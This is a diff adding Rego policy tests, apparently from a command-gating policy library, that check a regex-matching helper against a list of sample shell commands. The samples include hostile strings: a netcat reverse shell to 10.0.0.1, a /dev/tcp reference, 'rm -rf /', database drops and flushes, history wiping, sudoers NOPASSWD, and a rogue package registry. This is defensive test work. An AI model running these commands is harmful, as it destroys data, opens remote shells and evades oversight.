@@ -99,3 +99,36 @@ test_path_in_globs_shipped_lists if {
 		path_agrees(home, data.config.paths.credential_globs)
 	}
 }
+
+# lib.regex_match agrees with regex.match, hinted or not, on subjects that match and that do not,
+# in any case, and with the characters that case-insensitive matching folds beyond lower().
+regex_subjects := [
+	"psql -c 'DROP TABLE users'", "psql -c 'drop table users'", "redis-cli FLUSHALL", "redis-cli FLU\u017fHALL",
+	"mysql -e 'UPDATE t SET a=1'", "mysql -e 'update t set a=1 where id=2'", "db.users.deleteMany({})", "ls -la",
+	"HISTFILE=/dev/null", "unset HISTFILE", "export HISTSIZE=0", "echo hi", "nc -e /bin/sh 10.0.0.1 4444",
+	"python -c 'import socket,subprocess,os;s=socket.socket()'", "/dev/tcp/10.0.0.1/4444", "/dev/sda", "/dev/null",
+	"CAP_SYS_ADMIN+ep", "cap_setuid+ep", "ALL=(ALL) NOPASSWD: ALL", "rm -rf /", "delete-bucket", "s3 rb", "get-object",
+	"\u212aill", "git+https://x/y", "registry=https://evil", "GOSUMDB=off", "GOFLAGS=-insecure", "curl.sh", "install.sh",
+	"while true; do :; done", "for ((;;))", "tcp-listen:4444", "TCP4-LISTEN:1", "fs.rmSync(p)", "shutil.rmtree(p)",
+]
+
+test_regex_match_agrees_with_regex_match if {
+	every pattern, hints in data.config.regex_hints {
+		count(hints) > 0
+		every s in regex_subjects {
+			regex.match(pattern, s) == is_match(pattern, s)
+		}
+	}
+}
+
+is_match(pattern, s) if lib.regex_match(pattern, s)
+
+else := false
+
+test_regex_match_hints_skip_only_non_matches if {
+	pattern := data.config.bash.destructive_db.destructive_sql_pattern
+	lib.regex_match(pattern, "psql -c 'DROP TABLE users'")
+	not lib.regex_match(pattern, "psql -c 'select 1'")
+	not lib.may_hold_hint("psql -c 'select 1'", data.config.regex_hints[pattern])
+	lib.regex_match(`^[0-9]+$`, "42")
+}
